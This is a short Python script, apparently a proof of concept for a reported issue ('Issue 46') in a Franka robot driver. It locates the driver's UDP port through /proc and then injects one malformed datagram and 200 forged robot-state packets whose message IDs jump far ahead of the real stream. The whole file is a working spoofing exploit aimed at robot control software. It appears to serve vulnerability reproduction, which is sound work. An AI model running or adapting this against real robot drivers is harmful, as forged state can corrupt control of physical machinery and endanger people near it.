"""Issue 46's attack on the Franka driver's state stream, by a local process: find the driver's UDP port (as any
process can, from /proc/net/udp and the driver's open sockets), send it one 10-byte datagram, then 200 robot states
of the right size numbered far ahead of the robot's (message_id 10^9 on), 1 ms apart. Prints one JSON line: the
port and what was sent.

usage: udp_spoof.py DRIVER_PID
"""

import json
import os
import socket
import struct
import sys
import time

ROBOT_STATE_BYTES = 1377


def socket_inodes(pid):
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[len("socket:["):-1])
    return inodes


def udp_ports(pid):
    """The (address, port) of each IPv4 UDP socket the process holds."""
    inodes = socket_inodes(pid)
    found = []
    with open("/proc/net/udp") as table:
        next(table)
        for line in table:
            fields = line.split()
            local, inode = fields[1], fields[9]
            if inode in inodes:
                address_hex, port_hex = local.split(":")
                address = socket.inet_ntoa(struct.pack("<I", int(address_hex, 16)))
                found.append((address, int(port_hex, 16)))
    return found


def main(pid):
    ports = udp_ports(pid)
    if not ports:
        raise SystemExit(f"the premise: no UDP socket of process {pid}")
    address, port = ports[0]
    target = ("127.0.0.1" if address == "0.0.0.0" else address, port)
    attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attacker.sendto(bytes(10), target)
    for k in range(200):
        state = bytearray(ROBOT_STATE_BYTES)
        state[0:8] = struct.pack("<Q", 1_000_000_000 + k)
        attacker.sendto(bytes(state), target)
        time.sleep(0.001)
    print(json.dumps({"driver_udp": f"{address}:{port}", "sent_short": 1, "sent_states": 200}))


if __name__ == "__main__":
    main(int(sys.argv[1]))
